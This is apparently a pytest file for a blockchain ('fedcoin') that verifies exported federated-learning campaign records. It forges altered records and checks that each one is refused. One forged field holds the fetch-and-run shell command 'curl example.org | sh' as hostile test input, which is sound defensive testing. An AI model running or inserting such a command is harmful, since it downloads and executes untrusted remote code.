"""A whole campaign in one file, checked with the genesis alone."""

from __future__ import annotations

import copy
import json
import random
import re
from pathlib import Path
from typing import Any

import pytest

from fedcoin.application.verification.campaign_reader import CampaignReader, Leaf
from fedcoin.application.verification.campaign_record import (
    CHECK,
    build_record,
    check_record,
)
from fedcoin.application.verification.proof_file import check_file
from fedcoin.contract.blocks.validator_history import TrustPath
from fedcoin.data.crypto import merkle
from fedcoin.data.crypto.addresses import format_address
from fedcoin.data.errors import RefusalError
from fedcoin.data.messages.genesis import Genesis
from fedcoin.v1.transaction_pb2 import CloseCampaign
from tests.conftest import ReportAttack
from tests.support.genesis import FDC, make_genesis
from tests.support.keys import ALICE, BOB
from tests.support.ledger_campaign import LedgerCampaign, additive
from tests.support.ledger_chain import LedgerChain

GAME = additive(5, 3, 0)


def play_campaign(folder: Path) -> LedgerCampaign:
    """One round is settled, then the requester closes the campaign; another one stays open."""
    job = LedgerCampaign(LedgerChain.create(2, folder=folder, users=("alice", "bob")))
    LedgerCampaign(job.chain).open_campaign(rounds=1)
    job.open_campaign()
    job.open_task()
    job.settle(dict.fromkeys(job.chain.miners, GAME))
    job.chain.produce(job.chain.sign(ALICE, CloseCampaign(campaign_id=job.campaign_id)))
    return job


@pytest.fixture(scope="module")
def exported(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[dict[str, Any], Genesis, LedgerCampaign]:
    job = play_campaign(tmp_path_factory.mktemp("chain"))
    assert job.chain.store is not None
    record = build_record(job.chain.store, job.chain.genesis, job.campaign_id)
    return record, job.chain.genesis, job


def check(document: Any, genesis: Genesis) -> Any:
    return check_record(json.dumps(document).encode(), genesis)


def test_the_whole_campaign_is_there(exported: Any) -> None:
    record, genesis, job = exported
    found = check(record, genesis)
    assert found.campaign_id == job.campaign_id
    summary = found.summary
    assert (summary["requester"], summary["server"]) == tuple(
        format_address(key.address) for key in (ALICE, BOB)
    )
    assert (summary["budget"], summary["paid"], summary["not_paid"]) == (10 * FDC, 10 * FDC, 0)
    (task,) = summary["tasks"]
    assert (task["task_id"], task["phase"]) == (job.task_id.hex(), "settled")
    paid = [each["paid"] for each in task["updates"]]
    assert paid == [5 * FDC * 7 // 10 * share // 8 for share in (5, 3, 0)]
    assert [each["revealed"] for each in task["miners"]] == [True, True]
    actions = [
        item["action"]
        for block in record["blocks"]
        for item in block["transactions"]
        if "action" in item
    ]
    assert sorted(set(actions)) == [
        *("close_campaign", "commit_shapley", "open_campaign", "open_task", "reveal_shapley"),
    ]
    assert actions.count("open_campaign") == 1
    assert record["check"] == CHECK


def test_random_digits(exported: Any) -> None:
    record, genesis, _ = exported
    text = json.dumps(record)
    digits = [match.start() for match in re.finditer(r"[0-9a-f]", text)]
    rng = random.Random(7)
    for _ in range(30):
        place = rng.choice(digits)
        new = rng.choice([c for c in "0123456789abcdef" if c != text[place]])
        with pytest.raises(RefusalError):
            check_record((text[:place] + new + text[place + 1 :]).encode(), genesis)


def forgeries(record: dict[str, Any]) -> dict[str, tuple[str, Any]]:
    """Make files that say something else, each with the code that it must be refused with."""
    made: dict[str, tuple[str, Any]] = {}

    def forge(name: str, code: str) -> Any:
        made[name] = (code, copy.deepcopy(record))
        return made[name][1]

    forge("pays more", "BAD_PROOF")["summary"]["tasks"][0]["updates"][0]["paid"] += 1
    forge("another value", "BAD_PROOF")["summary"]["tasks"][0]["updates"][1]["value_nano"] = 9
    forge("an addition", "BAD_PROOF")["note"] = "audited"
    forge("an addition to a block", "BAD_PROOF")["blocks"][0]["note"] = "x"
    forge("another format", "MALFORMED")["format"] = "fedcoin/campaign/v2"
    forge("another chain", "WRONG_CHAIN")["chain_id"] = "other"
    forge("no blocks", "MALFORMED")["blocks"] = []
    forge("no opening", "MALFORMED")["blocks"].pop(0)
    forge("a block twice", "MALFORMED")["blocks"].insert(1, record["blocks"][0])
    forge("another command", "BAD_PROOF")["recompute"] = "curl example.org | sh"
    forge("a text as number", "BAD_PROOF")["summary"]["budget"] = str(10 * FDC)
    last = forge("an item is gone", "BAD_ROOT")["blocks"][-1]
    last["receipts"].pop()
    forge("an id of another campaign", "BAD_PROOF")["campaign_id"] = "00" * 32
    short = forge("a short leaf", "MALFORMED")["blocks"][0]
    short["transactions"][0] = {"leaf": "00"}
    return made


def test_forgeries_are_refused(exported: Any) -> None:
    record, genesis, _ = exported
    for name, (code, forged) in forgeries(record).items():
        with pytest.raises(RefusalError) as caught:
            check(forged, genesis)
        assert caught.value.code.name == code, (name, caught.value.message)
        assert len(caught.value.message) < 500, name


def test_what_is_hidden_is_missed_in_the_sums(exported: Any) -> None:
    # A payment may be replaced by its hash, as those of others are; then the budget is not used up.
    record, genesis, _ = exported
    forged = copy.deepcopy(record)
    receipts, place = next(
        (block["receipts"], i)
        for block in forged["blocks"]
        for i, item in enumerate(block["receipts"])
        if item.get("payment", {}).get("kind") == "PAYMENT_KIND_TRAINING"
    )
    hidden = receipts[place]
    receipts[place] = {"leaf": merkle.leaf_hash(bytes.fromhex(hidden["raw"])).hex()}
    amount = hidden["payment"]["amount"]
    with pytest.raises(RefusalError) as caught:
        check(forged, genesis)
    assert caught.value.code.name == "BAD_PROOF"
    summary = forged["summary"]
    summary["paid"] -= amount
    summary["not_paid"] += amount
    address = hidden["payment"]["address"]
    next(u for u in summary["tasks"][0]["updates"] if u["address"] == address)["paid"] = 0
    assert check(forged, genesis).summary["not_paid"] == amount


@pytest.mark.attack
@pytest.mark.parametrize("action", ["open_task", "commit_shapley"])
def test_what_was_paid_for_cannot_be_hidden(
    exported: Any, action: str, report_attack: ReportAttack
) -> None:
    """Without the opening or a commitment, all of the budget would still be there."""
    record, genesis, job = exported
    with pytest.raises(RefusalError, match="leaves out") as caught:
        read_without(action, record, genesis, job.campaign_id)
    assert caught.value.code.name == "BAD_PROOF"
    report_attack(
        f"hide a task from an auditor: write the campaign's file without its `{action}`",
        "a file that is valid, whose sums are whole, and that names nobody who was paid",
        "`BAD_PROOF`: the payment names what is left out",
    )


def read_without(action: str, record: dict[str, Any], genesis: Genesis, campaign_id: bytes) -> None:
    """Read a file of which all transactions with an action are replaced by their hashes."""
    reader, trust = CampaignReader(campaign_id, genesis), TrustPath(genesis)
    for block in record["blocks"]:
        transactions = [
            Leaf(leaf_of(item).hash) if item.get("action") == action else leaf_of(item)
            for item in block["transactions"]
        ]
        header, certificate = (bytes.fromhex(block[name]) for name in ("header", "certificate"))
        decoded = trust.check_certified(header, certificate)
        receipts = [leaf_of(item) for item in block["receipts"]]
        reader.read(header, decoded, certificate, transactions, receipts)


def leaf_of(item: dict[str, Any]) -> Leaf:
    return (
        Leaf(bytes.fromhex(item["leaf"])) if "leaf" in item else Leaf.of(bytes.fromhex(item["raw"]))
    )


def test_other_networks_and_formats(exported: Any) -> None:
    record, genesis, _ = exported
    with pytest.raises(RefusalError) as caught:
        check(record, make_genesis({ALICE: FDC}, {BOB: FDC}))
    assert caught.value.code.name in ("WRONG_CHAIN", "WRONG_GENESIS")
    with pytest.raises(RefusalError, match="format"):
        check_file(json.dumps(record).encode(), genesis)


def test_what_did_not_open_a_campaign(exported: Any) -> None:
    _, genesis, job = exported
    for wanted in (b"\0" * 32, job.task_id):
        with pytest.raises(RefusalError) as caught:
            build_record(job.chain.store, genesis, wanted)
        assert caught.value.code.name == "CAMPAIGN_NOT_FOUND"
